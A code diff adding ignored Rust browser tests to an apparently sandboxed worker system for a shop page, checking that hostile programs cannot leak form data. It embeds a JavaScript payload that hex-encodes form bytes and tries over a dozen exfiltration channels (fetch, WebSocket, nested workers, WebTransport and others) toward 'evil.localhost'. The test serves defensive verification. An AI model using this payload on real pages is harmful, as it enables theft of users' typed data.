@@ -162,3 +162,68 @@ fn a_script_injected_into_the_shops_page_sees_nothing_typed() {
     assert_eq!(visit.code(), "taken", "{:#}", visit.0);
     assert_eq!(visit.text("look"), "[]");
 }
+
+#[test]
+#[ignore = "needs TEGATA_CHROMIUM"]
+fn a_hand_out_made_to_choke_the_browser_is_refused() {
+    refused(Attack::NestingBomb, "unreadable");
+    refused(Attack::LengthBomb, "unreadable");
+}
+
+/// A program that the shop was brought to sign for, and that wants the form out: every way that a
+/// worker has is tried with the form's own bytes.
+const HOSTILE: &str = r#"
+onmessage = async ({data: {form}}) => {
+  const text = Array.from(form.slice(0, 60), byte => byte.toString(16).padStart(2, '0')).join('')
+  const tried = []
+  const origins = [location.origin, 'http://evil.localhost:' + location.port]
+  const told = target => new Promise((done, failed) => {
+    target.onopen = target.onload = target.onmessage = done
+    target.onerror = failed
+  })
+  const ways = {
+    fetch: address => fetch(address, {method: 'POST', body: text, mode: 'no-cors'}),
+    keepalive: address => fetch(address, {keepalive: true, mode: 'no-cors'}),
+    xhr: address => {
+      const request = new XMLHttpRequest()
+      request.open('GET', address)
+      request.send()
+      return told(request)
+    },
+    socket: address => told(new WebSocket(address.replace('http', 'ws'))),
+    events: address => told(new EventSource(address)),
+    scripts: address => importScripts(address),
+    module: address => import(address),
+    worker: address => told(new Worker(address)),
+    nested: address => told(new Worker(URL.createObjectURL(
+      new Blob([`fetch('${address}', {mode: 'no-cors'}).then(() => postMessage(1))`])))),
+    transport: address => new WebTransport(address.replace('http:', 'https:')).ready,
+    rtc: () => new RTCPeerConnection(),
+    eval: () => eval('1'),
+  }
+  for (const origin of origins) for (const [name, way] of Object.entries(ways)) {
+    try {
+      await Promise.race([way(`${origin}/leak/${name}/${text}`),
+        new Promise((_, late) => setTimeout(late, 800))])
+      tried.push(name)
+    } catch {}
+  }
+  postMessage('ways out: ' + tried.join(' '))
+}
+"#;
+
+#[test]
+#[ignore = "needs TEGATA_CHROMIUM"]
+fn nothing_leaves_the_worker_but_its_answer() {
+    let town = Town::start(Plan {
+        program: Some(HOSTILE),
+        ..Plan::default()
+    });
+    let visit = Visit::ordering(&town.page());
+    let outcome = (visit.code(), town.arrived());
+    assert_eq!(outcome, ("program_failed", 0), "{:#}", visit.0);
+    let seen = town.seen.lock().unwrap();
+    assert!(seen.iter().any(|address| address.contains("/v1/keys")));
+    let leaks: Vec<_> = seen.iter().filter(|a| a.contains("leak")).collect();
+    assert!(leaks.is_empty(), "{leaks:?}");
+}
